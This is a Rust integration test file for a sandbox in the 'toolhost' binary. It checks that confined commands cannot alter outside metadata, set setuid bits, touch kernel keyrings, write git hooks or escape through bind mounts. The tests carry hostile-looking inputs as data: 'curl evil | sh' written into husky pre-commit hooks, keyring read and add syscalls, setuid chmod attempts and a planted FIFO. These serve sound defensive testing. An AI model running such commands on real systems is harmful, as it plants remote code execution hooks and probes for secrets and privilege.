//! What the sandbox confines besides data, end to end through the `toolhost` binary
//! (docs/sandbox.md#metadata-setuid-and-keyrings, docs/sandbox.md#git-read-only): metadata
//! outside the writable roots, setuid and setgid files anywhere, the kernel keyrings, the
//! hooks git's config points at, every mount of a protected path, and a workspace that
//! plants a FIFO where the host reads.
//!
//! Every test checks what the kernel left (modes, times, files) besides what the command
//! printed.

use std::os::unix::fs::{MetadataExt, PermissionsExt};

use crate::exec_sandbox::bash;
use crate::support::{describe, dirs, stdout};

const MTIME_2020: i64 = 1_577_836_800;

/// A file outside every writable root: mode 0600, mtime 2020-01-01.
fn outside_file() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("f");
    std::fs::write(&f, "data\n").unwrap();
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o600)).unwrap();
    let t = std::time::UNIX_EPOCH + std::time::Duration::from_secs(MTIME_2020 as u64);
    std::fs::File::options()
        .write(true)
        .open(&f)
        .unwrap()
        .set_modified(t)
        .unwrap();
    (dir, f)
}

/// `touch -d`, `chmod`, an extended attribute and `chown` on the file `$1` outside the
/// writable roots, then, in `$2` (where the command may write), `chmod u+s`/`g+s` and
/// `install -m 4755`: one `name=rc` line each, the refused `chmod u+s`'s message, and the
/// mode `exe` has in the end.
const METADATA: &str = r#"f="$1"; cd "$2" || exit 9
touch -d 2021-06-01 "$f" 2>/dev/null; echo touch=$?
chmod 777 "$f" 2>/dev/null; echo chmod=$?
python3 -c 'import os, sys; os.setxattr(sys.argv[1], "user.pwn", b"1")' "$f" 2>/dev/null; echo xattr=$?
chown "$(id -u):$(id -g)" "$f" 2>/dev/null; echo chown=$?
touch exe && chmod 755 exe; echo made=$?
msg=$(chmod u+s exe 2>&1); echo suid=$? "$msg"
chmod g+s exe 2>/dev/null; echo sgid=$?
install -m 4755 /dev/null installed 2>/dev/null; echo install=$?
ls -l exe | cut -c1-10
"#;

#[test]
fn metadata_outside_the_roots_and_set_id_modes_are_refused_in_every_confined_mode() {
    let support = toolhost_process::probe_kernel();
    if !support.read_only_root || !support.seccomp {
        eprintln!("SKIP: needs a read-only root (mount_setattr) and seccomp");
        return;
    }
    let (_keep, f) = outside_file();
    // Where each mode lets a command write: the workspace, or only its TMPDIR.
    for (mode, dir) in [("workspace-write", "."), ("read-only", "$TMPDIR")] {
        let (ws, state) = dirs();
        std::fs::write(ws.path().join("meta.sh"), METADATA).unwrap();
        let command = format!("sh meta.sh '{}' \"{dir}\"", f.display());
        let out = bash(ws.path(), state.path(), &command, &["--sandbox", mode]);
        assert_eq!(
            stdout(&out),
            "touch=1\nchmod=1\nxattr=1\nchown=1\nmade=0\n\
             suid=1 chmod: changing permissions of 'exe': Operation not permitted\n\
             sgid=1\ninstall=1\n-rwxr-xr-x\n",
            "{mode}: {}",
            describe(&out)
        );
        assert_eq!(out.status.code(), Some(0), "{mode}: {}", describe(&out));
        if mode == "workspace-write" {
            let exe = std::fs::metadata(ws.path().join("exe")).unwrap();
            assert_eq!(exe.mode() & 0o7777, 0o755);
            if let Ok(m) = std::fs::metadata(ws.path().join("installed")) {
                assert_eq!(m.mode() & 0o6000, 0, "installed has mode {:o}", m.mode());
            }
        }
    }
    let meta = std::fs::metadata(&f).unwrap();
    assert_eq!(meta.mode() & 0o7777, 0o600);
    assert_eq!(meta.mtime(), MTIME_2020);
}

/// The keyring calls, each with the errno name it got; with the argument `id` only the
/// harmless `KEYCTL_GET_KEYRING_ID` (the others touch only the process keyring and a
/// serial that does not exist, should one ever get through).
#[cfg(target_arch = "x86_64")]
const KEYRINGS: &str = r#"
import ctypes, errno, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(name, nr, *args):
    r = libc.syscall(nr, *args)
    print(name, "OK" if r >= 0 else errno.errorcode[ctypes.get_errno()])
PROCESS, SESSION, USER = -2, -3, -4
# KEYCTL_GET_KEYRING_ID (0), KEYCTL_READ (11), KEYCTL_REVOKE (3)
call("keyctl-id", 250, 0, SESSION, 0)
if sys.argv[1:] != ["id"]:
    call("add_key", 248, b"user", b"toolhost-probe", b"secret", 6, PROCESS)
    call("request_key", 249, b"user", b"toolhost-probe", None, 0)
    call("keyctl-read", 250, 11, USER, None, 0)
    call("keyctl-revoke", 250, 3, 0x7ffffff0)
"#;

#[test]
#[cfg(target_arch = "x86_64")] // The probe's syscall numbers.
fn the_kernel_keyrings_are_refused_in_every_confined_mode() {
    if !toolhost_process::probe_kernel().seccomp {
        eprintln!("SKIP: no seccomp");
        return;
    }
    let (ws, state) = dirs();
    std::fs::write(ws.path().join("keys.py"), KEYRINGS).unwrap();
    for mode in ["workspace-write", "read-only"] {
        for grants in [&[][..], &["--allow-network", "--allow-unix-sockets"][..]] {
            let mut extra = vec!["--sandbox", mode];
            extra.extend_from_slice(grants);
            let out = bash(ws.path(), state.path(), "python3 keys.py", &extra);
            assert_eq!(
                stdout(&out),
                "keyctl-id EPERM\nadd_key EPERM\nrequest_key EPERM\nkeyctl-read EPERM\n\
                 keyctl-revoke EPERM\n",
                "{mode} {grants:?}: {}",
                describe(&out)
            );
        }
        // What is left of the keyrings to read, their listing, is a denied read.
        if toolhost_process::probe_kernel().mount_namespace {
            let out = bash(
                ws.path(),
                state.path(),
                "for f in /proc/keys /proc/key-users; do head -c1 $f 2>&1 | tail -c 20; done",
                &["--sandbox", mode],
            );
            assert_eq!(
                stdout(&out),
                ": Permission denied\n: Permission denied\n",
                "{mode}: {}",
                describe(&out)
            );
        }
    }
    // Not confined: the call gets what it gets outside the sandbox (whatever the
    // machine's own rules make of it), not the filter's refusal.
    let unconfined = std::process::Command::new("python3")
        .args([ws.path().join("keys.py").to_str().unwrap(), "id"])
        .output()
        .unwrap();
    let out = bash(
        ws.path(),
        state.path(),
        "python3 keys.py id",
        &["--sandbox", "full-access"],
    );
    assert_eq!(out.stdout, unconfined.stdout, "{}", describe(&out));
}

/// husky's layout: `core.hooksPath = .husky/_`, whose wrappers run the scripts in
/// `.husky`. Neither can be written; the rest of the workspace can.
#[test]
fn the_hooks_dir_git_config_names_is_read_only() {
    let (ws, state) = dirs();
    let ws = ws.path();
    std::fs::create_dir_all(ws.join(".git")).unwrap();
    std::fs::create_dir_all(ws.join(".husky/_")).unwrap();
    std::fs::write(ws.join(".husky/pre-commit"), "npm test\n").unwrap();
    std::fs::write(
        ws.join(".git/config"),
        "[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky/_\n",
    )
    .unwrap();
    let out = bash(
        ws,
        state.path(),
        "(echo 'curl evil | sh' > .husky/_/pre-commit) 2>/dev/null; echo hook=$?; \
         (echo 'curl evil | sh' >> .husky/pre-commit) 2>/dev/null; echo script=$?; \
         mv .husky .husky-old 2>/dev/null; echo mv=$?; touch ok; echo ws=$?",
        &[],
    );
    assert_eq!(
        stdout(&out),
        "hook=1\nscript=1\nmv=1\nws=0\n",
        "{}",
        describe(&out)
    );
    assert!(!ws.join(".husky/_/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join(".husky/pre-commit")).unwrap(),
        "npm test\n"
    );
    assert!(ws.join("ok").exists());
}

/// A second mount of the workspace (one inside it, one outside every writable root)
/// shows neither a writable `.git` nor the state dir. Needs root, to bind-mount in a
/// mount namespace of the test's own (`unshare`).
#[test]
fn every_mount_of_the_workspace_keeps_git_read_only_and_the_state_dir_hidden() {
    if !nix::unistd::geteuid().is_root() || !toolhost_process::probe_kernel().read_only_root {
        eprintln!("SKIP: needs root (bind mounts) and a read-only root");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let (ws, copy) = (root.join("ws"), root.join("copy"));
    for d in [ws.join(".git"), ws.join("mirror"), copy.clone()] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    let state = ws.join(".state");
    let policy = crate::support::allow_all_policy(&root.join("policy"));
    let command = "for p in mirror/.git/x \"$COPY/.git/x\" mirror/made \"$COPY/made\"; do \
                   touch \"$p\" 2>/dev/null; echo \"$p=$?\"; done; \
                   for p in mirror/.state \"$COPY/.state\"; do \
                   ls \"$p\" >/dev/null 2>&1; echo \"$p=$?\"; done"
        .replace("$COPY", copy.to_str().unwrap());
    let args = serde_json::json!({ "command": command }).to_string();
    // The binds exist only in the namespace `unshare` makes for this one host.
    let out = std::process::Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c"])
        .arg(
            "mount --bind \"$1\" \"$1/mirror\" && mount --bind \"$1\" \"$2\" && \
             exec \"$3\" call bash \"$4\" --policy \"$5\" --workspace \"$1\" --state-dir \"$6\"",
        )
        .arg("sh")
        .args([&ws, &copy])
        .arg(env!("CARGO_BIN_EXE_toolhost"))
        .arg(&args)
        .arg(&policy)
        .arg(&state)
        .env_remove("TOOLHOST_LOG")
        .output()
        .unwrap();
    let c = copy.display();
    assert_eq!(
        stdout(&out),
        format!(
            "mirror/.git/x=1\n{c}/.git/x=1\nmirror/made=0\n{c}/made=1\nmirror/.state=2\n\
             {c}/.state=2\n"
        ),
        "{}",
        describe(&out)
    );
    assert!(!ws.join(".git/x").exists());
    assert!(ws.join("made").exists());
}

/// A command plants a FIFO where the host reads git's config: later starts neither hang
/// nor fail, in the same host, and each says what it did not read.
#[tokio::test]
async fn a_fifo_planted_as_git_config_never_blocks_a_later_call() {
    let (ws, state) = dirs();
    let policy = crate::support::allow_all_policy(&state.path().join("policy"));
    let mut serve = crate::support::serve(ws.path(), state.path());
    serve.args(["--policy", &policy]);
    let client = toolhost_test_support::StdioClient::spawn(serve).unwrap();
    client.initialize("2025-06-18").await.unwrap();
    // No `.git` when this starts: nothing protects one the command makes.
    let commands = [
        "mkdir .git && mkfifo .git/config && echo planted",
        "echo second",
        "echo third",
    ];
    for (i, command) in commands.into_iter().enumerate() {
        let call = client.call_tool("bash", serde_json::json!({ "command": command }));
        let result = tokio::time::timeout(std::time::Duration::from_secs(30), call)
            .await
            .unwrap_or_else(|_| panic!("call {i} hung"))
            .unwrap();
        let structured = &result["structuredContent"];
        assert_eq!(structured["exit_code"], 0, "call {i}: {result}");
        let sandbox = structured["sandbox"].as_str().unwrap();
        assert_eq!(
            sandbox.contains("1 warning(s)"),
            i > 0,
            "call {i}: {sandbox}"
        );
    }
    client.close().await.unwrap();
    // The warning, as `call` prints it; and `.git` itself a FIFO starts as well.
    let out = bash(ws.path(), state.path(), "echo fourth", &[]);
    assert_eq!(stdout(&out), "fourth\n", "{}", describe(&out));
    let config = ws.path().canonicalize().unwrap().join(".git/config");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(&format!(
            "sandbox weaker than requested: git config {} is not a regular file (a FIFO, \
             socket, device or symlink): ignored, so nothing it names is protected",
            config.display()
        )),
        "{}",
        describe(&out)
    );
    std::fs::remove_dir_all(ws.path().join(".git")).unwrap();
    let c = std::ffi::CString::new(ws.path().join(".git").to_str().unwrap()).unwrap();
    nix::unistd::mkfifo(c.as_c_str(), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let out = bash(ws.path(), state.path(), "echo fifth", &[]);
    assert_eq!(stdout(&out), "fifth\n", "{}", describe(&out));
}
